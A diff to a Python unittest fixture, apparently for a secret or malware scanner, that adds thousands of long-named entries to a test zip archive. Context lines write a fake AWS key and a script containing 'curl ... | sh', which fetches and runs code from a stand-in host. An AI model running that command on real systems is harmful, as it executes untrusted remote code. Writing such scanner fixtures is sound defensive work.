@@ -99,6 +99,8 @@ class Workers(unittest.TestCase):
             f.write(b'\naws_key = "AKIAY3FJDRX5WQ7ZPGLK"\n')
         with zipfile.ZipFile(cls.large / 'c.zip', 'w') as z:
             z.write(cls.large / 'a.txt', 'inner/a.txt')
+            for i in range(12_000):  # more to tell than anybody keeps while it is another worker's turn
+                z.writestr('inner/' + 'a-long-name/' * 80 + f'{i:05}.txt', f'{i}\n')
             z.writestr('inner/b.sh', '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n')
         for i in range(9):
             (cls.large / f'd{i}.txt').write_text(MARKER + str(i))
